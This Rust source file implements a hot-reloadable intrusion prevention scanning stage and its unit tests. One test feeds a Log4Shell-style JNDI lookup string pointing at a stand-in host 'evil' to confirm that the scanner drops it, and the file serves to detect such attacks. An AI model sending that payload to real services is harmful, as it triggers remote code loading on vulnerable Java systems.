//! IPS scanning stage (spec §4.4). Wraps a [`Matcher`] behind
//! [`arc_swap::ArcSwap`] so a control-plane signature reload is a single
//! atomic pointer swap, picked up by workers at their next batch boundary
//! — the same pattern [`crate::policy`] uses for its policy vector.

use std::sync::Arc;

use arc_swap::ArcSwap;

use super::fallback::FallbackIpsMatcher;
use super::{Hit, Matcher, ScannerConfig, Signature};

/// Payload is truncated to this many bytes before scanning (spec §4.4:
/// "limited to the first 1500 bytes").
pub const MAX_SCAN_DEPTH: usize = 1500;

pub struct IpsScanner {
    matcher: ArcSwap<Box<dyn Matcher>>,
}

impl IpsScanner {
    pub fn new(config: ScannerConfig, signatures: Vec<Signature>) -> Self {
        let matcher: Box<dyn Matcher> = if config.use_native {
            Box::new(super::pattern_set::PatternSetMatcher::compile(signatures))
        } else {
            Box::new(FallbackIpsMatcher)
        };
        Self {
            matcher: ArcSwap::new(Arc::new(matcher)),
        }
    }

    /// Recompiles and installs a new signature set. Existing `scan` calls
    /// in flight keep using the old `Arc` until they return; no worker
    /// ever blocks on a reload.
    pub fn reload(&self, signatures: Vec<Signature>) {
        let matcher: Box<dyn Matcher> = Box::new(super::pattern_set::PatternSetMatcher::compile(signatures));
        self.matcher.store(Arc::new(matcher));
    }

    pub fn scan(&self, payload: &[u8]) -> Option<Hit> {
        let bounded = &payload[..payload.len().min(MAX_SCAN_DEPTH)];
        self.matcher.load().scan(bounded)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::{Action, Category};

    #[test]
    fn fallback_scanner_catches_jndi_within_depth_limit() {
        let scanner = IpsScanner::new(ScannerConfig { use_native: false }, vec![]);
        let hit = scanner.scan(b"${jndi:ldap://evil/a}").unwrap();
        assert_eq!(hit.category, Category::Cve);
        assert_eq!(hit.action, Action::Drop);
    }

    #[test]
    fn scan_truncates_to_max_depth() {
        let scanner = IpsScanner::new(ScannerConfig { use_native: false }, vec![]);
        let mut payload = vec![b'a'; MAX_SCAN_DEPTH + 100];
        payload.extend_from_slice(b"${jndi:");
        assert!(scanner.scan(&payload).is_none());
    }

    #[test]
    fn reload_takes_effect_on_next_scan() {
        let scanner = IpsScanner::new(ScannerConfig { use_native: true }, vec![]);
        assert!(scanner.scan(b"beacon callback").is_none());
        scanner.reload(vec![Signature {
            id: 9001,
            category: Category::Botnet,
            action: Action::Alert,
            pattern: super::super::SignaturePattern::Exact(b"beacon".to_vec()),
        }]);
        let hit = scanner.scan(b"beacon callback").unwrap();
        assert_eq!(hit.signature_id, 9001);
    }
}
